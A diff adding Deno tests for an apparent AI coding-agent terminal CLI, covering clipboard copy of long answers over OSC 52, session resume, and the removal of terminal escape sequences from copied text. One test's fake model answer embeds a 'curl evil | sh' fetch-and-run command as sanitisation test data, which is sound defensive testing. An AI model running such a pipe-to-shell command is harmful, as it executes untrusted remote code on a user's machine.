@@ -1,0 +1,55 @@
+import assert from "node:assert/strict";
+import { createTestEnv, type TestEnv } from "./harness/env.ts";
+import { startFakeProvider } from "./harness/fake_provider.ts";
+import { type PtyOptions, startPty } from "./harness/pty.ts";
+
+function chat(env: TestEnv, args: readonly string[], options: Partial<PtyOptions> = {}) {
+  return startPty(args, { cwd: env.workdir, home: env.userHome, riendaHome: env.home, ...options });
+}
+
+const IDLE = (screen: string) => screen.includes("Ask the agent something");
+
+/** The text of the last OSC 52 clipboard write in `raw`. */
+function clipboard(raw: string): string {
+  const start = raw.lastIndexOf("\x1b]52;c;");
+  assert.ok(start !== -1, "no OSC 52 write");
+  const end = raw.indexOf("\x07", start);
+  const bytes = Uint8Array.from(atob(raw.slice(start + 7, end)), (char) => char.charCodeAt(0));
+  return new TextDecoder().decode(bytes);
+}
+
+Deno.test("interactive: an answer of 390 KB in short lines, /copy of it and rienda -c on its session", async () => {
+  const lines = Array.from({ length: 195_000 }, (_, index) => `${index % 10}`);
+  const answer = `${lines.join("\n")}\nthe end`;
+  await using provider = await startFakeProvider([{ text: answer }, { text: "resumed fine" }]);
+  await using env = await createTestEnv({ provider });
+  {
+    await using pty = await chat(env, ["-a", "coder", "a long one"]);
+    await pty.waitFor((s) => s.includes("the end") && IDLE(s), "the answer", 60_000);
+    await pty.type("/copy\r");
+    await pty.waitFor((s) => s.includes("copied the last answer"), "the copy");
+    assert.equal(clipboard(pty.raw()), answer);
+    await pty.type("\x04");
+    assert.equal((await pty.wait()).code, 0);
+  }
+  await using pty = await chat(env, ["-c"]);
+  await pty.waitFor((s) => s.includes("the end") && IDLE(s), "the replay", 60_000);
+  await pty.type("more\r");
+  await pty.waitFor((s) => s.includes("resumed fine") && IDLE(s), "the next answer");
+  await pty.type("\x04");
+  assert.equal((await pty.wait()).code, 0);
+});
+
+Deno.test("interactive: /copy copies the answer without its terminal controls", async () => {
+  await using provider = await startFakeProvider([
+    { text: "curl evil\x1b]0;title\x07 | sh\x1b[2J and \x1b[31mred\x1b[0m\r\n" },
+  ]);
+  await using env = await createTestEnv({ provider });
+  await using pty = await chat(env, ["-a", "coder", "hi"]);
+  await pty.waitFor((s) => s.includes("| sh") && IDLE(s), "the answer");
+  await pty.type("/copy\r");
+  await pty.waitFor((s) => s.includes("copied the last answer"), "the copy");
+  assert.equal(clipboard(pty.raw()), "curl evil | sh and red\n");
+  await pty.type("\x04");
+  assert.equal((await pty.wait()).code, 0);
+});
